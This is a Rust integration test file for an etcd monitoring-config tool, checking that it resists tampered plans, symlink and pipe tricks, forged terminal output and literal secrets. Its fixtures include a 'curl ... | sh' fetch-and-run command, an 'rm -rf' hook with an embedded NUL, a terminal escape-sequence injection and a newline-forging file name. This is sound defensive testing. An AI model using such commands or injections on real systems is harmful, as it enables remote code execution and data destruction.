//! Issue 24's classes that this change covers: a saved plan cannot steer a
//! sync elsewhere, `diff --out` never follows a symlink or blocks on a pipe,
//! text read from etcd or a definition cannot forge terminal output or
//! lines, SARIF paths are URIs, and the deletion guard holds per section.
//! Against a real etcd.

mod support;

use std::path::Path;
use std::process::Output;

use support::Etcd;

const MONITORS: &str = "monitor:\n  db: {type: tcp, host: db1, port: 5432, interval: 30s}\n";

fn mon(etcd: &Etcd, dir: &Path, args: &[&str]) -> Output {
    support::mon_in(support::repo(dir), Some(&etcd.endpoint()), args)
}

fn text(o: &Output) -> String {
    support::output_text(o)
}

#[test]
fn a_saved_plan_cannot_send_a_sync_elsewhere() {
    let etcd = Etcd::start();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("defs.yaml"), MONITORS).unwrap();
    let out = mon(&etcd, dir.path(), &["diff", "--out", "plan.json"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    // A flag that contradicts the plan is refused, not ignored.
    for flag in [
        &["--prefix", "prod"][..],
        &["--owner", "x"],
        &["--etcd-api", "v3"],
    ] {
        let mut args = vec!["sync", "--plan", "plan.json"];
        args.extend_from_slice(flag);
        let out = mon(&etcd, dir.path(), &args);
        assert_eq!(out.status.code(), Some(2), "{flag:?}: {}", text(&out));
        assert!(
            text(&out).contains("contradicts the plan"),
            "{}",
            text(&out)
        );
    }
    // The plan's prefix and API pass the flags' checks.
    let saved = std::fs::read_to_string(dir.path().join("plan.json")).unwrap();
    for (from, to, says) in [
        ("\"prefix\": \"9volt\"", "\"prefix\": \"p3x/..\"", "prefix"),
        ("\"api\": \"v2\"", "\"api\": \"V3\"", "not an etcd API"),
    ] {
        assert!(saved.contains(from), "{saved}");
        std::fs::write(dir.path().join("edited.json"), saved.replace(from, to)).unwrap();
        let out = mon(&etcd, dir.path(), &["sync", "--plan", "edited.json"]);
        assert_eq!(out.status.code(), Some(2), "{to}: {}", text(&out));
        assert!(text(&out).contains(says), "{}", text(&out));
    }
    assert!(etcd.dump("2", "/").is_empty(), "nothing may be written");
}

#[test]
fn diff_out_replaces_a_symlink_and_never_waits_on_a_pipe() {
    let etcd = Etcd::start();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("defs.yaml"), MONITORS).unwrap();
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "keep me\n").unwrap();
    std::os::unix::fs::symlink(&victim, dir.path().join("link.json")).unwrap();
    let out = mon(&etcd, dir.path(), &["diff", "--out", "link.json"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me\n");
    assert!(!std::fs::symlink_metadata(dir.path().join("link.json"))
        .unwrap()
        .file_type()
        .is_symlink());
    support::fifo(&dir.path().join("pipe.json"));
    let start = std::time::Instant::now();
    let out = mon(&etcd, dir.path(), &["diff", "--out", "pipe.json"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
}

#[test]
fn text_read_from_etcd_or_a_definition_cannot_forge_output() {
    let etcd = Etcd::start();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("defs.yaml"), MONITORS).unwrap();
    // A key another "owner" holds, the owner an escape sequence.
    let evil = r#"{"type":"tcp","host":"db1","port":5432,"interval":"30s","mon-owner":"x\u001b]0;pwned\u0007"}"#;
    let put = std::process::Command::new("curl")
        .args([
            "-sS",
            "-X",
            "PUT",
            &format!("{}/v2/keys/9volt/monitor/db", etcd.endpoint()),
        ])
        .args(["--data-urlencode", &format!("value={evil}")])
        .output()
        .unwrap();
    assert!(put.status.success());
    for format in ["text", "short"] {
        let out = mon(&etcd, dir.path(), &["diff", "--format", format]);
        assert_eq!(out.status.code(), Some(7), "{}", text(&out));
        let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
        assert!(
            !all.contains(&0x1b) && !all.contains(&0x07),
            "{format}: {}",
            text(&out)
        );
        assert!(text(&out).contains("\\u{1b}]0;pwned"), "{}", text(&out));
    }
    // A file name with a newline cannot forge a second finding line, and
    // SARIF names files by URI.
    let defs = tempfile::tempdir().unwrap();
    std::fs::write(
        defs.path().join("a b#\nfake.yaml:1:1: error.yaml"),
        "monitor:\n  x: {type: 3}\n",
    )
    .unwrap();
    let out = support::mon_in(defs.path(), None, &["validate", "--format", "short", "."]);
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        shown.lines().all(|l| l.starts_with("a b#\\nfake.yaml")),
        "{shown}"
    );
    let out = support::mon_in(defs.path(), None, &["validate", "--format", "sarif", "."]);
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let uri = sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
        ["artifactLocation"]["uri"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(uri.contains("a%20b%23%0Afake.yaml"), "{uri}");
}

#[test]
fn naming_one_file_cannot_delete_every_alerter() {
    let etcd = Etcd::start();
    let dir = tempfile::tempdir().unwrap();
    let mut monitors = String::from("monitor:\n");
    for i in 0..12 {
        monitors.push_str(&format!(
            "  m{i}: {{type: tcp, host: db1, port: 5432, interval: 30s}}\n"
        ));
    }
    std::fs::write(dir.path().join("monitors.yaml"), &monitors).unwrap();
    std::fs::write(
        dir.path().join("alerters.yaml"),
        "alerter:\n  a1: {type: email, options: {to: x@example.com, from: m@example.com, address: \"smtp:25\"}}\n  a2: {type: email, options: {to: y@example.com, from: m@example.com, address: \"smtp:25\"}}\n",
    )
    .unwrap();
    let out = mon(&etcd, dir.path(), &["sync"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    // 2 deletions of 14 owned keys overall, but every alerter: refused.
    let out = mon(&etcd, dir.path(), &["sync", "monitors.yaml"]);
    assert_eq!(out.status.code(), Some(7), "{}", text(&out));
    assert!(text(&out).contains("/9volt/alerter/a1"), "{}", text(&out));
    assert_eq!(etcd.dump("2", "/9volt").len(), 14);
}

#[test]
fn a_pipe_or_a_device_named_as_a_ca_file_or_template_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("defs.yaml"), MONITORS).unwrap();
    let fifo = support::fifo(&dir.path().join("ca.pem"));
    for ca in [fifo.to_str().unwrap(), "/dev/zero"] {
        let start = std::time::Instant::now();
        let out = support::mon_in(
            support::repo(dir.path()),
            None,
            &["diff", "--endpoints", "https://127.0.0.1:1", "--cacert", ca],
        );
        assert_eq!(out.status.code(), Some(5), "{ca}: {}", text(&out));
        assert!(text(&out).contains("not a regular file"), "{}", text(&out));
        assert!(
            start.elapsed() < std::time::Duration::from_secs(10),
            "{ca} hung"
        );
    }
    // A template directory whose entry is a pipe.
    let templates = dir.path().join("templates");
    std::fs::create_dir(&templates).unwrap();
    support::fifo(&templates.join("collectd.conf.j2"));
    std::fs::write(
        dir.path().join("collectd.yaml"),
        "mqtt:\n  main: {host: \"broker.example.com:1883\"}\ncollectd:\n  web1: {broker: main, interval: 10}\n",
    )
    .unwrap();
    let start = std::time::Instant::now();
    let out = support::mon_in(
        dir.path(),
        None,
        &[
            "render",
            "collectd",
            ".",
            "--out",
            "rendered",
            "--templates",
            "templates",
        ],
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains("not a regular file"), "{}", text(&out));
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
}

#[test]
fn a_hook_command_holding_a_nul_is_refused_where_it_is_written() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("cluster.yaml"),
        "cluster:\n  ha:\n    nodes: {a: {}, b: {}}\n    resources:\n      r:\n        commands: {start: \"rm -rf /var/lib/app/cache\\0/*\", stop: \"true\", status: \"true\"}\n        primary: a\n        secondary: [b]\n",
    )
    .unwrap();
    let out = support::mon_in(dir.path(), None, &["validate", "--format", "short", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("cluster.yaml:6:") && text(&out).contains("NUL"),
        "{}",
        text(&out)
    );
    let out = support::mon_in(
        dir.path(),
        None,
        &["render", "hastmon", ".", "--out", "rendered"],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(!dir.path().join("rendered").exists());
}

#[test]
fn a_saved_plan_applies_what_it_shows_and_keeps_no_literal_secret() {
    let etcd = Etcd::start();
    let dir = tempfile::tempdir().unwrap();
    let defs = |password: &str| {
        format!(
            "monitor:\n  db: {{type: exec, command: \"curl -s https://x.test/i | sh\", interval: 30s}}\n  \
             web: {{type: tcp, host: web1, port: 80, interval: 30s}}\n\
             alerter:\n  mail:\n    type: email\n    options: {{to: ops@example.com, from: m@example.com, address: \"smtp.example.com:587\", username: m, password: {password}}}\n"
        )
    };
    // Two plans that differ only in a literal password are the same bytes:
    // nothing in the file depends on it, so nothing can recover it.
    let mut plans = Vec::new();
    for password in ["correct horse battery", "staple donkey tangent"] {
        std::fs::write(dir.path().join("defs.yaml"), defs(password)).unwrap();
        let out = mon(&etcd, dir.path(), &["diff", "--out", "plan.json"]);
        assert_eq!(out.status.code(), Some(4), "{}", text(&out));
        let plan = std::fs::read_to_string(dir.path().join("plan.json")).unwrap();
        assert!(
            !plan.contains("horse") && !plan.contains("donkey"),
            "{plan}"
        );
        plans.push(plan);
    }
    assert_eq!(plans[0], plans[1]);
    let saved = plans.pop().unwrap();
    // A shown value or summary edited after review is refused (exit 7),
    // never applied in place of the definition.
    for (from, to) in [
        ("curl -s https://x.test/i | sh", "/bin/true"),
        ("\"add\": 3", "\"add\": 0"),
    ] {
        assert!(saved.contains(from), "{from}: {saved}");
        std::fs::write(dir.path().join("edited.json"), saved.replace(from, to)).unwrap();
        let out = mon(&etcd, dir.path(), &["sync", "--plan", "edited.json"]);
        assert_eq!(out.status.code(), Some(7), "{to}: {}", text(&out));
        assert!(etcd.dump("2", "/").is_empty(), "nothing may be written");
    }
    let out = mon(&etcd, dir.path(), &["sync", "--plan", "plan.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
}

/// `n` slack alerters, each with its own literal token.
fn alerters_with_tokens(n: usize) -> String {
    let mut s = String::from("alerter:\n");
    for i in 0..n {
        s.push_str(&format!(
            "  a{i}:\n    type: slack\n    options: {{token: xoxb-{i:08}-secret, channel: \"#ops-{i}\"}}\n"
        ));
    }
    s
}

#[test]
fn redacting_30000_literal_tokens_takes_linear_time() {
    let etcd = Etcd::start();
    let mut took = Vec::new();
    for n in [3_000, 30_000] {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a.yaml"), alerters_with_tokens(n)).unwrap();
        let start = std::time::Instant::now();
        let out = mon(&etcd, dir.path(), &["diff", "--out", "plan.json"]);
        took.push(start.elapsed().as_secs_f64());
        assert_eq!(out.status.code(), Some(4), "{}", text(&out));
        let plan = std::fs::read_to_string(dir.path().join("plan.json")).unwrap();
        assert!(!plan.contains("-secret"), "a token reached the plan");
    }
    // Ten times the tokens: linear is about 10×, quadratic 100×.
    let ratio = took[1] / took[0];
    eprintln!(
        "diff --out: 3,000 tokens {:.2} s, 30,000 {:.2} s, ratio {ratio:.1}",
        took[0], took[1]
    );
    assert!(ratio < 30.0, "not linear: {took:?}");
}

/// A v3 prefix over gRPC's 4 MiB default answer (five 1 MB values, as
/// etcd's own client reads them) is read, not refused.
#[test]
fn a_v3_prefix_over_4_mib_is_read() {
    use std::io::Write;
    let etcd = Etcd::start();
    let big = format!(
        "{{\"type\":\"exec\",\"command\":\"/bin/true\",\"interval\":\"10s\",\"description\":\"{}\"}}",
        "x".repeat(1_000_000)
    );
    for i in 0..5 {
        let mut put = std::process::Command::new(support::require("etcdctl"))
            .env("ETCDCTL_API", "3")
            .args(["--endpoints", &etcd.endpoint(), "put"])
            .arg(format!("/9volt/monitor/big-{i}"))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        put.stdin.take().unwrap().write_all(big.as_bytes()).unwrap();
        assert!(put.wait().unwrap().success());
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("defs.yaml"), MONITORS).unwrap();
    let out = mon(
        &etcd,
        dir.path(),
        &["diff", "--etcd-api", "v3", "--format", "short"],
    );
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    assert!(
        text(&out).contains("5 not written by these definitions"),
        "{}",
        text(&out)
    );
}
